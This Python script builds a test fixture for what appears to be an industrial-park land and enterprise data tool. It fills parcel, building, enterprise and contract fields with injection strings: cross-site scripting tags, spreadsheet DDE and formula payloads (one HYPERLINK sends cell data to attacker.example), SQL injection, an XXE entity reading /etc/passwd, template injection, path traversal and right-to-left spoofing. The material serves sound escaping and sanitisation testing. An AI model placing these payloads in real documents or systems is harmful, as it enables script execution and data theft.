"""A small park whose names are attacks, for whoever writes names into pages, tables and projects: make(folder) writes park.yaml and its files.

TEXTS is what stands in the fields, by what it tries; PARK_NAME is the park's. Row i of parcels, buildings, enterprises, projects, factory units and contracts holds text i;
zones hold the first ones of ZONES. Ids are harmless, except those of HOSTILE_IDS, which are texts too."""
import csv
import os
import sys

from osgeo import ogr

from park import layer, rectangle, system

TEXTS = {
    'script': '<script>alert(1)</script>',
    'image': '"><img src=x onerror=alert(1)>',
    'dde': "=cmd|' /C calc'!A0",
    'plus': '+1+1',
    'minus': '-2+3+cmd|\' /C calc\'!A0',
    'at': '@SUM(1)',
    'hyperlink': '=HYPERLINK("http://attacker.example/?x="&A1,"打开")',
    'tab formula': '\t=1+1',
    'return formula': '\r=1+1',
    'space formula': ' =1+1',
    'wide formula': '＝1+1',
    'quotes': '\'"`“”‘’"" \'\'; DROP TABLE parcels; --',
    'backslash': 'C:\\new\\table\\u003cscript\\x3e\\',
    'control': 'a\x01b\x07c\x1b[31md\x7fe\x9b2Jf',
    'lines': '第一行\n第二行\r\n| 第三行 |\n\n# 标题',
    'right to left': '\u202egpj.exe\u202c \u2067abc\u2069 \u200f\u061c',
    'cdata': ']]>',
    'comment': '--><!-- <!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]> &y;',
    'end of script': '</script>',
    'end of style': '</style></title></textarea><svg/onload=alert(1)>',
    'template': '{{x}} {{constructor.constructor(\'alert(1)\')()}} ${7*7} <%= 7*7 %> %s%n%d',
    'expression': "[% env('HOME') %] [%eval('1')%] @project_path",
    'entities': '&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#60;b&#62; &copy',
    'attribute': '\' onmouseover=\'alert(1)\' x=\'',
    'address': 'javascript:alert(1)',
    'markdown': '[点](javascript:alert(1)) ![x](http://attacker.example/x.png) <http://attacker.example> **b** `c` | d | _e_ ~~f~~ \\',
    'separators': 'u\u2028v\u2029w\ufeffx\u00ady\u200bz',
    'not a character': 'a\uffffb\ufffec',
    'emoji': '🏭👨‍👩‍👧 𠮷田 e\u0301',
    'path': '../../../../etc/passwd\\..\\..\\con',
    'wide': '！＂＃＜script＞',
    'escape of a workbook': '_x003C_script_x003E_ _x0001_ _x005F_',
    'long': '长' * 9990 + '<b>尾</b>=1',
}
PARK_NAME = '</title></script><script>alert(1)</script> =1+1 "亩" \\ & \'园\' {{x}} ]]> [% 1+1 %] 🏭'
ZONES = ('script', 'dde', 'cdata', 'template', 'right to left', 'expression')
HOSTILE_IDS = ('script', 'image', 'plus', 'at', 'quotes', 'end of script', 'cdata', 'path')
COLUMNS, SIDE, STEP = 6, 100.0, 120.0


def parcel_id(name):
    """What stands in the id of the parcel with this text."""
    return TEXTS[name] if name in HOSTILE_IDS else f'350502001001GB{list(TEXTS).index(name) + 1:05d}'


def place(i, inset=0.0, side=SIDE):
    return rectangle(i % COLUMNS * STEP + inset, i // COLUMNS * STEP + inset, side, side)


def table(folder, name, heading, rows):
    """UTF-8 with quotes where they are needed, as Excel writes it."""
    with open(os.path.join(folder, name), 'w', encoding='utf-8-sig', newline='') as f:
        csv.writer(f).writerows([heading.split(','), *rows])


def write_layers(folder):
    s, real, whole = ogr.OFTString, ogr.OFTReal, ogr.OFTInteger
    texts = list(TEXTS.items())
    layer(os.path.join(folder, 'parcels.gpkg'), 'parcels', system(),
          [('ZDDM', s), ('ZL', s), ('QLR', s), ('DLBM', s), ('DLMC', s), ('ZDMJ', real), ('GHRJL', real)],
          [(place(i), parcel_id(name), text, text, '100101', text, 10000.0, 2.0) for i, (name, text) in enumerate(texts)])
    layer(os.path.join(folder, 'buildings.gpkg'), 'buildings', system(), [('JZBH', s), ('CS', whole), ('JZJG', s), ('FWYT', s)],
          [(place(i, 20, 40), text, 2, text, text) for i, (_, text) in enumerate(texts)])
    rows = -(-len(texts) // COLUMNS)
    bands = [(rectangle(-10, k * rows / len(ZONES) * STEP - 10, COLUMNS * STEP, rows / len(ZONES) * STEP), TEXTS[name]) for k, name in enumerate(ZONES)]
    layer(os.path.join(folder, 'zones.gpkg'), 'zones', system(), [('PQMC', s)], bands)


def write_tables(folder):
    texts = list(TEXTS.items())
    table(folder, 'enterprises.csv', '统一社会信用代码,企业名称,宗地代码,年份,产值（万元）,税收（万元）,占地面积（亩）,行业代码',
          [(f'9135050200000{i:04d}X', text, parcel_id(name), year, 1000 + i, 10 + i, 15, '3829') for year in (2023, 2024, 2025) for i, (name, text) in enumerate(texts)])
    table(folder, 'projects.csv', '项目编号,项目名称,宗地代码,四个一批,总投资额（万元）,开工日期',
          [(f'XM{i:03d}', text, parcel_id(name), text, 1000, '2025-05-20') for i, (name, text) in enumerate(texts)])
    table(folder, 'factory_units.csv', '单元编号,建筑编号,宗地代码,楼层,建筑面积（平方米）,统一社会信用代码,使用状态,起始日期',
          [(text, text, parcel_id(name), 1, 100, f'9135050200000{i:04d}X', text, '2020-07-01') for i, (name, text) in enumerate(texts)])
    table(folder, 'contracts.csv', '合同编号,宗地代码,签订日期,约定投资强度（万元/亩）,约定亩均产值（万元/亩）,约定亩均税收（万元/亩）,约定容积率下限,约定竣工日期',
          [(text, parcel_id(name), '2019-01-10', 240, 600, 26, 0.8, '2022-01-28') for name, text in texts])


def yaml_text(text):
    """A YAML text between double quotes."""
    return '"' + text.replace('\\', '\\\\').replace('"', '\\"') + '"'


def make(folder):
    """Write the park; returns the path of its park.yaml."""
    os.makedirs(folder, exist_ok=True)
    write_layers(folder)
    write_tables(folder)
    path = os.path.join(folder, 'park.yaml')
    with open(path, 'w', encoding='utf-8') as f:
        f.write(f'park: {yaml_text(PARK_NAME)}\nas_of: 2026-03-31\nyear: 2025\nlang: zh\nrules: [national-idle-2012, quanzhou-2025]\n'
                'parcels: parcels.gpkg\nbuildings: buildings.gpkg\nzones: zones.gpkg\nenterprises: enterprises.csv\nprojects: projects.csv\n'
                'factory_units: factory_units.csv\ncontracts: contracts.csv\n')
    return path


if __name__ == '__main__':
    print(make(sys.argv[1]))
